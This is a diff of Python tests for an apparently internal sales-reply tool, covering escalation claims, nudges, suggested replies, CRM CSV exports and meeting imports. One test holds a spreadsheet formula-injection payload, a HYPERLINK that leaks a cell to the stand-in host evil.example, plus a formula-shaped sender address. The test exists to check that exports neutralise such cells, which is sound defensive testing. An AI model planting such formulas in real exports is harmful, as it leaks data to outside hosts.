@@ -11,6 +11,8 @@ import json
 import mailbox
 import shutil
 from datetime import UTC, datetime
+from email.message import EmailMessage
+from email.utils import format_datetime
 from pathlib import Path
 
 import dagster as dg
@@ -101,6 +103,14 @@ def _reply_again(root: Path, escalation: dict, body: str, at: datetime, n: int =
     msg = reply_to(sent, body, at, message_id=f"<again-{n}-{sent['send_key']}@mail.example>",
                    quote="On Fri, Sam wrote:\n> Hi there\n")
     mailbox.Maildir(build_resources(_env(root))["mailbox"].path, create=True).add(msg)
+
+
+def _unanswered_send(root: Path) -> dict:
+    """A first email nobody has answered yet, as its ledger row."""
+    with build_resources(_env(root))["warehouse"].connect() as con:
+        cursor = con.execute("select * from send_ledger where status = 'sent' and step = 1 and contact_email not in "
+                             "(select from_addr from reply_classifications) order by send_key limit 1")
+        return dict(zip([c[0] for c in cursor.description], cursor.fetchone()))
 
 
 def _by_label(queue: dict[str, dict], label: str) -> list[dict]:
@@ -195,6 +205,25 @@ def test_people_work_the_queue_and_two_runs_lose_nothing(world):
     assert status["escalation_queue"]["claimed"] == 1 and status["escalation_queue"]["handled"] == 2
 
 
+def test_a_claim_on_someone_elses_escalation_is_refused_unless_taken_over_and_logged(world):
+    interested = _by_label(_queue(world), "interested")[0]
+    eid = interested["escalation_id"]
+    _ok(world, "claim", eid, "--by", "Sam Lee")
+    refused = _sdr(world, "claim", eid, "--by", "Mia Chen")
+    assert refused.exit_code == 1 and f"{eid} is claimed by Sam Lee" in refused.output
+    assert _queue(world)[eid]["owner"] == "Sam Lee"
+    assert [r["escalation_id"] for r in json.loads(_ok(world, "inbox", "--mine", "Sam Lee", "--json"))[
+        "escalations"]] == [eid]
+    taken = _ok(world, "claim", eid, "--by", "Mia Chen", "--take-over", "--note", "Sam is on leave")
+    assert f"Mia Chen claimed {eid} from Sam Lee" in taken
+    row = _queue(world)[eid]
+    assert (row["owner"], row["status"]) == ("Mia Chen", "claimed")
+    with build_resources(_env(world))["warehouse"].connect() as con:
+        claims = con.execute("select actor, note from escalation_events where escalation_id = ? and action = 'claim' "
+                             "order by event_id", [eid]).fetchall()
+    assert claims == [("Sam Lee", None), ("Mia Chen", "took over from Sam Lee: Sam is on leave")]
+
+
 def test_a_second_reply_updates_the_escalation_and_its_suggested_answer(world):
     queue = _queue(world)
     objection = _by_label(queue, "objection")[0]
@@ -207,6 +236,65 @@ def test_a_second_reply_updates_the_escalation_and_its_suggested_answer(world):
     assert (row["label"], row["priority"], row["reply_count"]) == ("interested", 1, 2)
     assert [m["direction"] for m in json.loads(row["thread"])][-2:] == ["in", "in"]
     assert row["suggested_response"] != objection["suggested_response"]
+
+
+def test_a_nudge_neither_restarts_the_wait_nor_demotes_an_unanswered_interested_reply(world):
+    interested = _by_label(_queue(world), "interested")[0]
+    assert interested["over_sla"]
+    nudge = "Hello? Is anyone there? Could you send me the pricing?"
+    _reply_again(world, interested, nudge, datetime(2026, 11, 24, 16, tzinfo=UTC))
+    _replies(world, "2026-11-24T16:30:00+00:00")
+    nudged = _queue(world, "2026-11-24T16:30:00+00:00")[interested["escalation_id"]]
+    with build_resources(_env(world))["warehouse"].connect() as con:
+        labels = [label for (label,) in con.execute(
+            "select label from reply_classifications where from_addr = ? order by received_at",
+            [interested["contact_email"]]).fetchall()]
+    assert labels == ["interested", "question"], "the nudge alone is a question"
+    assert (nudged["label"], nudged["priority"], nudged["reply_count"]) == ("interested", 1, 2)
+    assert nudged["waiting_since"] == interested["waiting_since"] and nudged["over_sla"]
+    assert nudge in nudged["reply_text"], "the newest reply is still the one shown"
+
+    # Claimed, both replies are answered: the next one alone labels the conversation.
+    _ok(world, "claim", interested["escalation_id"], "--by", "Sam Lee", now="2026-11-24T16:40:00+00:00")
+    _reply_again(world, interested, "Could you send me the pricing first?", datetime(2026, 11, 25, 10, tzinfo=UTC),
+                 n=3)
+    _replies(world, "2026-11-25T10:30:00+00:00")
+    after = _queue(world, "2026-11-25T10:30:00+00:00")[interested["escalation_id"]]
+    assert (after["label"], after["priority"], after["status"], after["reply_count"]) == ("question", 2, "claimed", 3)
+
+
+def test_a_new_reply_on_a_claimed_escalation_is_marked_for_its_owner(world):
+    question = _by_label(_queue(world), "question")[0]
+    _ok(world, "claim", question["escalation_id"], "--by", "Sam Lee")
+
+    def mine(now: str) -> tuple[dict, str]:
+        listed = json.loads(_ok(world, "inbox", "--mine", "Sam Lee", "--json", now=now))["escalations"]
+        return next(r for r in listed if r["escalation_id"] == question["escalation_id"]), \
+            _ok(world, "inbox", "--mine", "Sam Lee", now=now)
+
+    _, table = mine(LATER)
+    assert "(new" not in table
+    _reply_again(world, question, "Please call me today before 3pm.", datetime(2026, 11, 25, 11, tzinfo=UTC))
+    _replies(world, "2026-11-25T11:30:00+00:00")
+    row, table = mine("2026-11-25T11:30:00+00:00")
+    assert "(new" in table and row["waiting_since"].startswith("2026-11-25 11:00")
+    assert (row["status"], row["new_reply"], row["reply_count"]) == ("claimed", True, 2)
+    assert row["waiting_business_hours"] is None, "claimed: its owner has it, the service level does not"
+
+
+def test_the_suggested_answer_greets_the_colleague_who_wrote_not_the_contact(world):
+    sent = _unanswered_send(world)
+    msg = reply_to(sent, "Hi, I run RevOps here and my colleague looped me in. We are interested - can we do a call "
+                         "next week?", datetime(2026, 11, 24, 9, tzinfo=UTC), message_id="<colleague@mail.example>")
+    msg.replace_header("From", f"Jane Doe <jane.doe@{sent['contact_email'].partition('@')[2]}>")
+    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(msg)
+    _replies(world)
+    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
+    contact_first = row["first_name"]
+    assert contact_first and contact_first != "Jane" and row["from_addr"].startswith("jane.doe@")
+    assert row["label"] == "interested" and row["suggested_response"].startswith("Thanks Jane,"), \
+        row["suggested_response"]
+    assert contact_first not in row["suggested_response"]
 
 
 def test_the_service_level_check_warns_on_old_unclaimed_interest_and_not_once_handled(world):
@@ -292,6 +380,75 @@ def test_crm_exports_parse_back_with_the_crm_columns_and_filled_rows(world):
     assert read("escalations_crm.csv")[1] == [], "nothing happened since December"
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Interested - click for my calendar")'
+
+
+def test_no_cell_a_prospect_wrote_runs_as_a_formula_in_the_escalations_and_crm_files(world):
+    interested = _by_label(_queue(world), "interested")[0]
+    _reply_again(world, interested, FORMULA, datetime(2026, 11, 24, 16, tzinfo=UTC))
+    stranger = EmailMessage()
+    mailbox_address = _send_of(world, interested)["mailbox"]
+    stranger["From"], stranger["To"], stranger["Subject"] = "=2+5@evil.example", mailbox_address, "Re: hello"
+    stranger["Date"] = format_datetime(datetime(2026, 11, 24, 16, tzinfo=UTC))
+    stranger["Message-ID"] = "<f@evil.example>"
+    stranger["In-Reply-To"] = "<anything@evil.example>"
+    stranger.set_content("Yes, very interested. Can we set up a call this week?")
+    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(stranger)
+    now = "2026-11-24T16:30:00+00:00"
+    _replies(world, now)
+    out = world / "crm"
+    for fmt in ("hubspot", "salesforce", "csv"):
+        _ok(world, "export", "crm", "--format", fmt, "--out", str(out), now=now)
+    cells = {}
+    for path in (world / "exports" / "escalations.csv", *sorted(out.glob("*.csv"))):
+        with path.open(newline="", encoding="utf-8") as fh:
+            cells[path.name] = [v for row in csv.reader(fh) for v in row]
+    assert set(cells) == {"escalations.csv", "hubspot_contacts.csv", "hubspot_notes.csv", "salesforce_leads.csv",
+                          "escalations_crm.csv"}
+    for name, values in cells.items():
+        assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+    assert "'" + FORMULA in cells["escalations.csv"] and "'=2+5" in cells["escalations.csv"]
+    for name in ("hubspot_contacts.csv", "salesforce_leads.csv", "escalations_crm.csv"):
+        assert "'=2+5@evil.example" in cells[name] and "'=2+5" in cells[name], name
+
+
+def test_a_reply_without_a_readable_date_still_exports_to_hubspot(world):
+    sent = _unanswered_send(world)
+    msg = reply_to(sent, "Yes, very interested. Can we set up a call this week?", datetime(2026, 11, 24, 9, tzinfo=UTC),
+                   message_id="<undated@mail.example>")
+    msg.replace_header("Date", "Mon, 23 Nov 2026 25:99:00 +0000")
+    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(msg)
+    _replies(world)
+    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
+    assert row["received_at"] is None and row["first_reply_at"] is None
+    out = world / "crm"
+    _ok(world, "export", "crm", "--format", "hubspot", "--out", str(out))
+    with (out / "hubspot_notes.csv").open(newline="", encoding="utf-8") as fh:
+        dates = {n["Email"]: n["Activity date"] for n in csv.DictReader(fh)}
+    assert dates[sent["contact_email"]] == f"{row['escalated_at'].astimezone(UTC):%Y-%m-%dT%H:%M:%SZ}"
+
+
+def test_a_courtesy_reply_after_a_booked_meeting_keeps_the_lead_where_the_meeting_put_it(world):
+    interested = _by_label(_queue(world), "interested")[0]
+    _ok(world, "handled", interested["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")
+    _reply_again(world, interested, "Great, thanks! See you Thursday.", datetime(2026, 11, 24, 16, tzinfo=UTC))
+    now = "2026-11-24T16:30:00+00:00"
+    _replies(world, now)
+    row = _queue(world, now)[interested["escalation_id"]]
+    assert (row["status"], row["outcome"], row["last_outcome"], row["reopened"]) == ("open", None, "meeting", True)
+    out = world / "crm"
+    exported = {}
+    for fmt, name, email in (("hubspot", "hubspot_contacts.csv", "Email"),
+                             ("salesforce", "salesforce_leads.csv", "Email"), ("csv", "escalations_crm.csv", "email")):
+        _ok(world, "export", "crm", "--format", fmt, "--out", str(out), now=now)
+        with (out / name).open(newline="", encoding="utf-8") as fh:
+            exported[fmt] = next(r for r in csv.DictReader(fh) if r[email] == interested["contact_email"])
+    assert (exported["hubspot"]["Lifecycle Stage"], exported["hubspot"]["Lead Status"]) == (
+        "salesqualifiedlead", "CONNECTED")
+    assert (exported["salesforce"]["Status"], exported["salesforce"]["Rating"]) == ("Working - Contacted", "Hot")
+    assert "(earlier outcome: meeting)" in exported["csv"]["thread"] and exported["csv"]["meeting_booked_at"]
+
+
 def queue_reply(queue: dict[str, dict], email: str) -> str:
     row = next(r for r in queue.values() if r["contact_email"] == email)
     return row["reply_text"].strip().splitlines()[0]
@@ -303,6 +460,14 @@ def test_a_crm_export_to_a_folder_that_cannot_be_made_is_one_error_line(tmp_path
     result = _sdr(tmp_path, "export", "crm", "--format", "csv", "--out", str(out))
     assert result.exit_code == 1, result.output
     assert result.output == f"error: cannot write {out}: Not a directory\n"
+
+
+def test_a_date_beyond_the_calendar_in_utc_is_one_error_line(tmp_path):
+    for args in (("snooze", "k3v9qa", "--by", "Sam Lee", "--until", "9999-12-31T23:00:00-05:00"),
+                 ("export", "crm", "--format", "csv", "--since", "0001-01-01T00:30:00+01:00")):
+        result = _sdr(tmp_path, *args)
+        assert result.exit_code == 1 and not isinstance(result.exception, OverflowError), result.exception
+        assert result.output.startswith("error: '") and result.output.count("\n") == 1, result.output
 
 
 def test_booked_meetings_import_from_a_booking_tool_and_show_in_status(world):
@@ -335,6 +500,32 @@ def test_booked_meetings_import_from_a_booking_tool_and_show_in_status(world):
     with build_resources(_env(world))["warehouse"].connect() as con:
         reasons = sorted(r for (r,) in con.execute("select reason from quarantined_meeting_rows").fetchall())
     assert reasons == ["attendee is not a contact we wrote to", "canceled booking", "not JSON: Expecting value"]
+
+
+def test_a_rescheduled_booking_of_a_contact_without_an_escalation_is_one_meeting(world):
+    from sdr_assets.performance import reply_performance
+
+    sent = _unanswered_send(world)
+    export = world / "calendly-export.csv"
+    export.write_text("Invitee Email,Start Date & Time,Canceled,Invitee UUID\n"
+                      f"{sent['contact_email']},2026-11-25 10:00 am,false,uuid-1\n"
+                      f"{sent['contact_email'].upper()},2026-11-26 02:00 pm,false,uuid-2\n")
+    assert "Meetings added: 1, already recorded: 1, quarantined: 0" in _ok(world, "meetings", "import", str(export),
+                                                                           "--by", "Sam Lee")
+    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
+    assert [(m["contact_email"], m["play"], m["escalation_id"]) for m in meetings] == [
+        (sent["contact_email"], sent["play"], None)]
+
+    # A warehouse written before imports were matched by contact may name one conversation twice.
+    resources = build_resources(_env(world))
+    with resources["warehouse"].connect() as con:
+        con.execute("insert into meetings values ('m-older', ?, ?, ?, 'import:older.csv', 'Sam Lee', null)",
+                    [sent["contact_email"], sent["play"], datetime(2026, 11, 26, 14, tzinfo=UTC)])
+    with memory_instance() as instance:
+        assert dg.materialize([reply_performance], resources=resources, instance=instance).success
+    with resources["warehouse"].connect() as con:
+        counted = con.execute("select sum(meetings) from reply_performance where play = ?", [sent["play"]]).fetchone()
+    assert counted == (1,)
 
 
 def test_routing_in_the_play_file_assigns_owners_without_changing_the_version(world):
